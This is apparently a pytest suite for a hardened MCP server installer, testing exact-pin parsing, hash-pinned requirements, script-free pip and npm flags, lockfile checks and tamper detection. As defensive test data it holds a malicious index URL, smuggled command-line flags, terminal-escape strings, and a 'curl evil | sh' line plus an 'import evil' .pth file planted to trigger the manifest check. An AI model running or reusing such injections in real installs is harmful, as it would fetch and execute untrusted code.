"""``mcp-brokerctl server add``'s pure parts: pins, the plan, the files it writes, the flags it runs with.

- only an exact pin is taken (``PACKAGE==VERSION``, ``PACKAGE@x.y.z``):
  ranges, wildcards, tags, URLs, local versions and markers are refused
  before anything happens, as are server names that are no plain name;
- the plan the operator confirms lists every package with its hash and the
  command, defanged; without ``--yes`` or a terminal nothing is installed;
- the requirements file pins every wheel with ``--hash=sha256:`` (what
  ``--require-hashes`` reads); the servers.d file parses as a server with
  its command, command_sha256, env file and the prefix as its only
  read path; the env template comments out the variables a README shows;
- every step runs with no install scripts: wheels only, hashes required,
  no dependencies of their own, no index when installing; npm with
  ``--ignore-scripts`` from a lockfile; the venv has no pip of its own;
- what a registry gave is read as data: wheel names, entry points, an npm
  lockfile (every entry needs an integrity and a registry tarball);
- the manifest names a changed, added or removed file, an upgrade keeps the
  operator's edits of the servers.d file, and doctor's check warns on a
  prefix changed outside ``server add``.
"""

from __future__ import annotations

import hashlib
import json
import os
import re
import shutil
import tempfile
import tomllib
import zipfile
from collections.abc import Iterator

import pytest

from broker.admin import server_install as si
from broker.core import servers as core_servers
from broker.core.errors import PrivsepError, UsageError
from broker.core.paths import Paths

HEX = "a" * 64
ROOT_ONLY = pytest.mark.skipif(os.geteuid() != 0, reason="needs root (files made root's)")


@pytest.fixture
def paths() -> Iterator[Paths]:
    top = tempfile.mkdtemp(prefix="server-install-")
    os.chmod(top, 0o755)
    p = Paths(top)
    for d in (p.servers_d, p.secrets, os.path.dirname(p.server_packages)):
        os.makedirs(d, exist_ok=True)
    try:
        yield p
    finally:
        shutil.rmtree(top, ignore_errors=True)


def _plan(paths: Paths, spec: si.Spec | None = None, **kw: object) -> si.Plan:
    spec = spec or si.Spec("pip", "mcp-server-time", "2026.10.19")
    prefix = paths.server_package("time")
    release = "2026.10.19-20260101T000000Z"
    defaults: dict[str, object] = {
        "name": "time",
        "spec": spec,
        "artifacts": [
            si.Artifact(
                "mcp_server_time", "2026.10.19", f"sha256:{HEX}", "mcp_server_time-2026.10.19-py3-none-any.whl"
            ),
            si.Artifact("tzdata", "2026.6", "sha256:" + "b" * 64, "tzdata-2026.6-py2.py3-none-any.whl"),
        ],
        "prefix": prefix,
        "release": release,
        "toml_path": f"{paths.servers_d}/time.toml",
        "env_file": f"{paths.secrets}/time.env",
        "user": "mcp-srv-time",
        "command": f"{prefix}/{release}/venv/bin/mcp-server-time",
        "args": (),
        "entry": "mcp-server-time",
    }
    defaults.update(kw)
    return si.Plan(**defaults)  # type: ignore[arg-type]


# --- exact pins only ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("pip", "package", "version", "extras"),
    [
        ("mcp-server-time==2026.10.19", "mcp-server-time", "2026.10.19", ""),
        ("mcp_server.x==1.0rc1", "mcp_server.x", "1.0rc1", ""),
        ("pkg[cli,extra2]==2.0.post1", "pkg", "2.0.post1", "[cli,extra2]"),
        ("Pkg==1!2.0.dev3", "Pkg", "1!2.0.dev3", ""),
    ],
)
def test_an_exact_pip_pin_is_taken(pip: str, package: str, version: str, extras: str) -> None:
    spec = si.parse_spec(pip, None)
    assert (spec.kind, spec.package, spec.version, spec.extras) == ("pip", package, version, extras)
    assert spec.text == pip


@pytest.mark.parametrize(
    "pip",
    [
        "mcp-server-time",
        "mcp-server-time>=2026.1",
        "mcp-server-time~=2026.1",
        "mcp-server-time===2026.10.19",
        "mcp-server-time==2026.*",
        "mcp-server-time==2026.10.19+local",
        "mcp-server-time==2026.10.19; python_version>'3'",
        "mcp-server-time @ https://example.org/x.whl",
        "https://example.org/mcp_server_time-1.0-py3-none-any.whl",
        "./mcp-server-time",
        "-r requirements.txt",
        "--index-url=https://evil.example/simple",
        "mcp-server-time==1.0 --extra-index-url=x",
        "mcp-server-time==1.0,<2",
        "",
    ],
)
def test_anything_but_an_exact_pip_pin_is_refused(pip: str) -> None:
    with pytest.raises(UsageError, match="PACKAGE==VERSION"):
        si.parse_spec(pip, None)


@pytest.mark.parametrize(
    ("npm", "package", "version"),
    [
        ("@modelcontextprotocol/server-everything@2026.8.31", "@modelcontextprotocol/server-everything", "2026.8.31"),
        ("some-mcp@1.2.3", "some-mcp", "1.2.3"),
        ("some-mcp@1.2.3-beta.1+build.5", "some-mcp", "1.2.3-beta.1+build.5"),
    ],
)
def test_an_exact_npm_pin_is_taken(npm: str, package: str, version: str) -> None:
    spec = si.parse_spec(None, npm)
    assert (spec.kind, spec.package, spec.version, spec.text) == ("npm", package, version, npm)


@pytest.mark.parametrize(
    "npm",
    [
        "some-mcp",
        "some-mcp@latest",
        "some-mcp@^1.2.3",
        "some-mcp@~1.2.3",
        "some-mcp@1.2",
        "some-mcp@1.x",
        "some-mcp@>=1.0.0",
        "some-mcp@01.2.3",
        "some-mcp@git+https://github.com/x/y.git",
        "some-mcp@file:../x",
        "github:x/y",
        "@scope/some-mcp",
        "Some-MCP@1.2.3",
        "some-mcp@1.2.3 --foreground-scripts",
    ],
)
def test_anything_but_an_exact_npm_pin_is_refused(npm: str) -> None:
    with pytest.raises(UsageError, match="PACKAGE@VERSION"):
        si.parse_spec(None, npm)


def test_exactly_one_package_is_named() -> None:
    with pytest.raises(UsageError, match="exactly one"):
        si.parse_spec(None, None)
    with pytest.raises(UsageError, match="exactly one"):
        si.parse_spec("a==1", "a@1.0.0")


@pytest.mark.parametrize("name", ["", "a.b", "../x", "x/y", "-x", "tïme", "a b", "x" * 65, "time\n"])
def test_a_server_name_that_is_no_plain_name_is_refused(name: str) -> None:
    with pytest.raises(UsageError, match="server name"):
        si.check_name(name)


@pytest.mark.parametrize("name", ["time", "my_srv-2", "T1", "x" * 64])
def test_a_plain_server_name_is_taken(name: str) -> None:
    si.check_name(name)


def test_add_refuses_a_bad_pin_or_name_before_it_touches_anything(paths: Paths) -> None:
    with pytest.raises(UsageError):
        si.add_server(paths, "time", pip="mcp-server-time>=1", yes=True, echo=lambda _line: None)
    with pytest.raises(UsageError):
        si.add_server(paths, "../time", pip="mcp-server-time==1.0", yes=True, echo=lambda _line: None)
    with pytest.raises(UsageError):
        si.upgrade_server(paths, "time", npm="x@latest", yes=True, echo=lambda _line: None)
    assert not os.path.exists(paths.server_packages)
    assert os.listdir(paths.servers_d) == [] and os.listdir(paths.secrets) == []


# --- the plan and its confirmation ----------------------------------------------------------------


def test_the_plan_shows_every_package_with_its_hash_and_the_command(paths: Paths) -> None:
    plan = _plan(paths)
    text = "\n".join(plan.lines())
    for a in plan.artifacts:
        assert f"{a.name} {a.version}" in text and a.digest in text
    assert plan.command in text and "mcp-srv-time" in text and plan.release_dir in text
    assert "2 package(s)" in text and "wheels only" in text
    assert plan.toml_path in text and plan.env_file in text


def test_the_plan_defangs_what_a_registry_wrote(paths: Paths) -> None:
    evil = si.Artifact("left\x1b[2Jpad\u202e", "1.0.0\r", "sha512-x\x07", "https://x")
    plan = _plan(paths, si.Spec("npm", "some-mcp", "1.0.0"), artifacts=[evil], command="/usr/bin/node")
    text = "\n".join(plan.lines())
    assert "\x1b" not in text and "\u202e" not in text and "\r" not in text and "\x07" not in text
    assert "\\x1b" in text and "<U+202E>" in text and "install scripts off" in text


def test_an_upgrade_plan_says_what_it_replaces(paths: Paths) -> None:
    plan = _plan(paths, replaces="mcp-server-time==2026.10.10")
    assert "upgrade time: mcp-server-time==2026.10.10 -> mcp-server-time==2026.10.19" in plan.lines()[0]


def test_nothing_is_installed_unconfirmed(paths: Paths, monkeypatch: pytest.MonkeyPatch) -> None:
    plan = _plan(paths)
    asked: list[str] = []

    def answer(yes: bool) -> si.Confirm:
        def confirm(question: str) -> bool:
            asked.append(question)
            return yes

        return confirm

    assert si._confirmed(plan, True, None)
    assert si._confirmed(plan, False, answer(True))
    assert not si._confirmed(plan, False, answer(False))
    assert asked == ["Install mcp-server-time==2026.10.19 as server time?"] * 2
    monkeypatch.setattr("sys.stdin", open(os.devnull))  # noqa: SIM115 - no terminal
    with pytest.raises(UsageError, match="--yes"):
        si._confirmed(plan, False, None)


# --- the files written ----------------------------------------------------------------------------


def test_requirements_pin_every_wheel_with_its_hash(paths: Paths) -> None:
    plan = _plan(paths)
    text = si.requirements_text(plan.spec, plan.artifacts)
    assert f"mcp_server_time==2026.10.19 \\\n    --hash=sha256:{HEX}" in text
    assert "tzdata==2026.6 \\\n    --hash=sha256:" + "b" * 64 in text
    pins = [line for line in text.splitlines() if not line.startswith(("#", " "))]
    assert len(pins) == 2 and all("==" in p and p.endswith(" \\") for p in pins)
    with pytest.raises(ValueError, match="sha256"):
        si.requirements_text(plan.spec, [si.Artifact("x", "1", "md5:abc")])


def test_the_servers_d_file_is_a_server_running_from_its_read_only_prefix(paths: Paths) -> None:
    plan = _plan(paths, args=("--local-timezone", 'Europe/"Odd"\\Zone'))
    text = si.toml_text(plan, "c" * 64)
    assert text.startswith(si.TOML_MARK)
    table = tomllib.loads(text)["servers"]["time"]
    defn = core_servers.parse_server("time", table, plan.toml_path)
    assert defn.command == plan.command and defn.command_sha256 == "c" * 64
    assert defn.args == ("--local-timezone", 'Europe/"Odd"\\Zone')
    assert defn.read_paths == (paths.server_package("time"),) and defn.write_paths == ()
    assert defn.env_file == f"{paths.secrets}/time.env" and defn.user is None
    npm = si.toml_text(_plan(paths, si.Spec("npm", "x", "1.0.0"), command="/usr/bin/node", args=("/p/x.js",)), None)
    assert "command_sha256" not in npm and "package-lock.json" in npm


def test_the_prefix_is_hidden_from_every_server_but_its_own() -> None:
    p = Paths("/")
    assert p.server_package("time") == "/var/lib/mcp-privsep-packages/time"
    assert p.server_packages in p.hidden_from_servers()
    assert not p.server_packages.startswith((p.state + "/", p.opt + "/", p.server_homes + "/"))
    assert Paths("/srv/x").server_package("time") == "/srv/x/var/lib/mcp-privsep-packages/time"


def test_the_env_template_comments_out_what_the_readme_mentions(tmp_path: str) -> None:
    readme = """
Configure it:

```json
{"mcpServers": {"gh": {"command": "npx", "env": {"GITHUB_PERSONAL_ACCESS_TOKEN": "<token>", "GH_HOST": "x"}}}}
```

    export MAIL_PASSWORD=secret
    docker run -e API_BASE_URL -e PATH image
Set the environment variable `SLACK_BOT_TOKEN` first. HOME_DIR is not mentioned as a variable.
"""
    found = si.documented_variables(readme)
    assert found == ["MAIL_PASSWORD", "API_BASE_URL", "SLACK_BOT_TOKEN", "GITHUB_PERSONAL_ACCESS_TOKEN", "GH_HOST"]
    spec = si.Spec("pip", "x", "1.0")
    text = si.env_template("gh", spec, found)
    assert "#GITHUB_PERSONAL_ACCESS_TOKEN=\n" in text and "#MAIL_PASSWORD=\n" in text
    assert all(line.startswith("#") for line in text.splitlines())
    for template in (text, si.env_template("t", spec, [])):  # each an env file that sets nothing yet
        path = f"{tmp_path}/t.env"
        with open(path, "w") as fh:
            fh.write(template)
        os.chmod(path, 0o600)
        assert core_servers.read_env_file(path, frozenset({os.geteuid()})) == {}
    assert len(si.documented_variables("\n".join(f"export VAR_{i}=1" for i in range(100)))) == si.MAX_VARIABLES


# --- the flags: no install script runs ------------------------------------------------------------


def test_pip_runs_wheels_only_with_hashes_and_without_network_or_dependencies() -> None:
    pip = ["/venv/bin/python", "-m", "pip"]
    spec = si.Spec("pip", "mcp-server-time", "2026.10.19")
    download = si.pip_download_argv(pip, spec, "/b/wheels")
    assert download[:5] == [*pip, "--python", si.SYSTEM_PYTHON] and download[5] == "download"
    assert "--only-binary=:all:" in download and download[-1] == "mcp-server-time==2026.10.19"
    install = si.pip_install_argv(pip, "/p/r/venv", "/b/wheels", "/b/requirements.txt")
    assert install[3:6] == ["--python", "/p/r/venv/bin/python", "install"]
    for flag in ("--no-index", "--only-binary=:all:", "--require-hashes", "--no-deps"):
        assert flag in install
    assert install[-2:] == ["-r", "/b/requirements.txt"]
    assert si.venv_argv("/p/r/venv") == ["/usr/bin/python3", "-m", "venv", "--without-pip", "/p/r/venv"]


def test_npm_runs_no_script_and_installs_from_the_lockfile() -> None:
    lock = si.npm_lock_argv(["/usr/bin/npm"])
    assert lock[:2] == ["/usr/bin/npm", "install"] and "--package-lock-only" in lock and "--ignore-scripts" in lock
    ci = si.npm_ci_argv(["/usr/bin/npm"])
    assert ci[:2] == ["/usr/bin/npm", "ci"] and "--ignore-scripts" in ci and "--omit=dev" in ci
    doc = json.loads(si.npm_package_json("Ev", si.Spec("npm", "@s/x", "1.2.3")))
    assert doc["dependencies"] == {"@s/x": "1.2.3"} and doc["private"] is True and "scripts" not in doc


# --- reading what the registry gave ---------------------------------------------------------------


def test_the_wheels_pip_chose_are_read_from_its_output() -> None:
    output = """Collecting mcp-server-time==2026.10.19
  Downloading mcp_server_time-2026.10.19-py3-none-any.whl (8.5 kB)
  File was already downloaded /b/wheels/tzdata-2026.6-py2.py3-none-any.whl
Saved ./wheels/mcp_server_time-2026.10.19-py3-none-any.whl
Saved ./wheels/mcp_server_time-2026.10.19-py3-none-any.whl
Successfully downloaded mcp-server-time tzdata
"""
    assert si.downloaded_files(output) == [
        "tzdata-2026.6-py2.py3-none-any.whl",
        "mcp_server_time-2026.10.19-py3-none-any.whl",
    ]


def _wheel(directory: str, filename: str, scripts: dict[str, str] | None = None, description: str = "") -> str:
    path = f"{directory}/{filename}"
    dist = "-".join(filename.split("-")[:2])
    with zipfile.ZipFile(path, "w") as z:
        z.writestr(f"{dist}.dist-info/METADATA", f"Metadata-Version: 2.1\nName: x\n\n{description}")
        if scripts is not None:
            body = "".join(f"{k} = {v}\n" for k, v in scripts.items())
            z.writestr(f"{dist}.dist-info/entry_points.txt", f"[console_scripts]\n{body}")
    return path


def test_root_hashes_each_chosen_wheel_and_refuses_anything_else(tmp_path: str) -> None:
    d = str(tmp_path)
    spec = si.Spec("pip", "mcp-server-time", "2026.10.19")
    top = _wheel(d, "mcp_server_time-2026.10.19-py3-none-any.whl", {"mcp-server-time": "mcp_server_time:main"})
    _wheel(d, "tzdata-2026.6-py2.py3-none-any.whl")
    _wheel(d, "tzdata-2025.1-py2.py3-none-any.whl")  # seeded from a cache, not chosen
    chosen = ["mcp_server_time-2026.10.19-py3-none-any.whl", "tzdata-2026.6-py2.py3-none-any.whl"]
    found = si.wheel_artifacts(d, spec, chosen)
    with open(top, "rb") as fh:
        assert found[0].digest == "sha256:" + hashlib.sha256(fh.read()).hexdigest()
    assert [(a.name, a.version) for a in found] == [("mcp_server_time", "2026.10.19"), ("tzdata", "2026.6")]
    with open(f"{d}/evil-1.0.tar.gz", "w") as fh:
        fh.write("sdist")
    with pytest.raises(PrivsepError, match="no wheel"):
        si.wheel_artifacts(d, spec, [*chosen, "evil-1.0.tar.gz"])
    with pytest.raises(PrivsepError, match="two files"):
        si.wheel_artifacts(d, spec, [*chosen, "tzdata-2025.1-py2.py3-none-any.whl"])
    with pytest.raises(PrivsepError, match=re.escape("no wheel of mcp-server-time==2026.10.19")):
        si.wheel_artifacts(d, spec, chosen[1:])
    os.symlink(top, f"{d}/linked-1.0-py3-none-any.whl")
    with pytest.raises(OSError):  # a link is never followed by root
        si.wheel_artifacts(d, spec, [*chosen, "linked-1.0-py3-none-any.whl"])


def test_the_console_script_comes_from_the_wheel(tmp_path: str) -> None:
    d = str(tmp_path)
    path = _wheel(
        d, "pkg-1.0-py3-none-any.whl", {"pkg": "pkg:main", "pkg-admin": "pkg.admin:main"}, "Use `PKG_TOKEN` env"
    )
    scripts, description = si.wheel_metadata(path)
    assert scripts == {"pkg": "pkg:main", "pkg-admin": "pkg.admin:main"} and "PKG_TOKEN" in description
    assert si.choose_entry(scripts, "pkg", None, "console script") == "pkg"
    assert si.choose_entry(scripts, "pkg", "pkg-admin", "console script") == "pkg-admin"
    assert si.choose_entry({"only": "x:y"}, "other", None, "console script") == "only"
    assert si.choose_entry({"server-everything": "x"}, "@s/server-everything", None, "bin") == "server-everything"
    with pytest.raises(UsageError, match="several"):
        si.choose_entry({"a": "x", "b": "y"}, "pkg", None, "console script")
    with pytest.raises(UsageError, match="no console script"):
        si.choose_entry({}, "pkg", None, "console script")
    with pytest.raises(UsageError, match="no such"):
        si.choose_entry(scripts, "pkg", "rm", "console script")


def _lock(**top: object) -> dict[str, object]:
    entry: dict[str, object] = {
        "version": "1.2.3",
        "resolved": "https://registry.npmjs.org/some-mcp/-/some-mcp-1.2.3.tgz",
        "integrity": "sha512-" + "A" * 86 + "==",
        "bin": {"some-mcp": "dist/index.js"},
    }
    entry.update(top)
    return {
        "lockfileVersion": 3,
        "packages": {
            "": {"name": "mcp-privsep-server-x", "dependencies": {"some-mcp": "1.2.3"}},
            "node_modules/some-mcp": entry,
            "node_modules/dep": {
                "version": "0.1.0",
                "resolved": "https://registry.npmjs.org/dep/-/dep-0.1.0.tgz",
                "integrity": "sha512-" + "B" * 86 + "==",
            },
        },
    }


def test_the_lockfile_gives_every_package_its_integrity_and_the_bin() -> None:
    spec = si.Spec("npm", "some-mcp", "1.2.3")
    found, bins = si.lock_artifacts(_lock(), spec)
    assert [(a.name, a.version) for a in found] == [("dep", "0.1.0"), ("some-mcp", "1.2.3")]
    assert all(a.digest.startswith("sha512-") for a in found) and bins == {"some-mcp": "dist/index.js"}


@pytest.mark.parametrize(
    ("change", "why"),
    [
        ({"integrity": None}, "no integrity"),
        ({"integrity": "md5-abc"}, "no integrity"),
        ({"resolved": "git+ssh://git@github.com/x/y.git#abc"}, "not a registry tarball"),
        ({"resolved": "file:../x"}, "not a registry tarball"),
        ({"link": True}, "not a registry tarball"),
        ({"version": "1.2.4"}, "not 1.2.3"),
    ],
)
def test_a_lockfile_entry_without_integrity_or_from_elsewhere_is_refused(change: dict[str, object], why: str) -> None:
    with pytest.raises(PrivsepError, match=why):
        si.lock_artifacts(_lock(**change), si.Spec("npm", "some-mcp", "1.2.3"))


def test_an_old_lockfile_is_refused() -> None:
    with pytest.raises(PrivsepError, match="older than version 2"):
        si.lock_artifacts({"lockfileVersion": 1, "dependencies": {}}, si.Spec("npm", "some-mcp", "1.2.3"))


# --- root's release, its manifest, an upgrade, doctor ----------------------------------------------


def _release(top: str) -> str:
    release = f"{top}/r1"
    os.makedirs(f"{release}/venv/bin")
    with open(f"{release}/venv/bin/srv", "w") as fh:
        fh.write("#!/bin/sh\n")
    os.chmod(f"{release}/venv/bin/srv", 0o4777)
    os.symlink("/usr/bin/python3", f"{release}/venv/bin/python")
    return release


@ROOT_ONLY
def test_a_release_is_made_roots_read_only_and_without_set_id_bits(tmp_path: str) -> None:
    release = _release(str(tmp_path))
    os.chown(f"{release}/venv", 12345, 12345)
    si.make_root_owned(release)
    st = os.stat(f"{release}/venv/bin/srv")
    assert (st.st_uid, st.st_gid, st.st_mode & 0o7777) == (0, 0, 0o755)
    assert os.stat(f"{release}/venv").st_uid == 0 and os.readlink(f"{release}/venv/bin/python") == "/usr/bin/python3"
    os.link(f"{release}/venv/bin/srv", f"{release}/hard")
    with pytest.raises(PrivsepError, match="hard link"):
        si.make_root_owned(release)
    os.unlink(f"{release}/hard")
    os.mkfifo(f"{release}/fifo")
    with pytest.raises(PrivsepError, match="no file or directory"):
        si.make_root_owned(release)


def test_the_manifest_names_what_changed(tmp_path: str) -> None:
    release = _release(str(tmp_path))
    before = si.manifest(release)
    assert before["venv/bin/python"] == "link:/usr/bin/python3" and before["venv"] == "dir"
    assert before["venv/bin/srv"] == "sha256:" + hashlib.sha256(b"#!/bin/sh\n").hexdigest()
    with open(f"{release}/venv/bin/srv", "a") as fh:
        fh.write("curl evil | sh\n")
    with open(f"{release}/venv/new.pth", "w") as fh:
        fh.write("import evil\n")
    os.unlink(f"{release}/venv/bin/python")
    assert si.manifest_changes(before, si.manifest(release)) == [
        "changed venv/bin/srv",
        "added venv/new.pth",
        "removed venv/bin/python",
    ]


def test_an_upgrade_keeps_the_operators_edits_of_the_servers_d_file(paths: Paths) -> None:
    old = _plan(paths, release="2026.10.10-20260101T000000Z")
    old = _plan(paths, release=old.release, command=f"{old.release_dir}/venv/bin/mcp-server-time")
    text = si.toml_text(old, "1" * 64) + 'env = { TZ_DEFAULT = "UTC" }\nconnect_ports = [443]\n'
    with open(old.toml_path, "w") as fh:
        fh.write(text)
    new = _plan(paths)
    record = {"release": old.release, "command": old.command, "command_sha256": "1" * 64}
    before, after = si._upgraded_toml(new, record, "2" * 64)
    assert before == text
    table = tomllib.loads(after)["servers"]["time"]
    assert table["command"] == new.command and table["command_sha256"] == "2" * 64
    assert table["env"] == {"TZ_DEFAULT": "UTC"} and table["connect_ports"] == [443]
    assert old.release not in after and "mcp-server-time==2026.10.19" in after.splitlines()[0]
    with open(old.toml_path, "w") as fh:
        fh.write(text.replace(old.release, "elsewhere"))
    with pytest.raises(PrivsepError, match="does not run"):
        si._upgraded_toml(new, record, "2" * 64)


@ROOT_ONLY
def test_doctor_warns_when_a_prefix_changed_outside_server_add(paths: Paths) -> None:
    plan = _plan(paths)
    os.makedirs(paths.server_packages, mode=0o755)
    os.makedirs(plan.prefix, mode=0o755)
    release = _release(plan.prefix)
    os.rename(release, plan.release_dir)
    si.make_root_owned(plan.release_dir)
    record: dict[str, object] = {"format": 1, "name": "time", "spec": plan.spec.text, "release": plan.release}
    record["files"] = si.manifest(plan.release_dir)
    with open(f"{plan.prefix}/install.json", "w") as fh:
        json.dump(record, fh)
    with open(plan.toml_path, "w") as fh:
        fh.write(si.toml_text(plan, None))
    assert si.installed(paths) == ["time"]
    assert [level for level, _m, _f in si.verify_all(paths)] == ["ok"]
    with open(f"{plan.release_dir}/venv/bin/srv", "a") as fh:
        fh.write("# edited\n")
    os.chmod(f"{plan.release_dir}/venv", 0o777)
    os.makedirs(f"{paths.server_packages}/.build/time-1234")
    found = si.verify_all(paths)
    levels = [level for level, _m, _f in found]
    text = "\n".join(m for _l, m, _f in found)
    assert set(levels) == {"warning"} and "changed venv/bin/srv" in text and "writable by others" in text
    assert "a build that did not finish" in text
    assert all("server upgrade time" in fix for _l, m, fix in found if m.startswith("server time"))
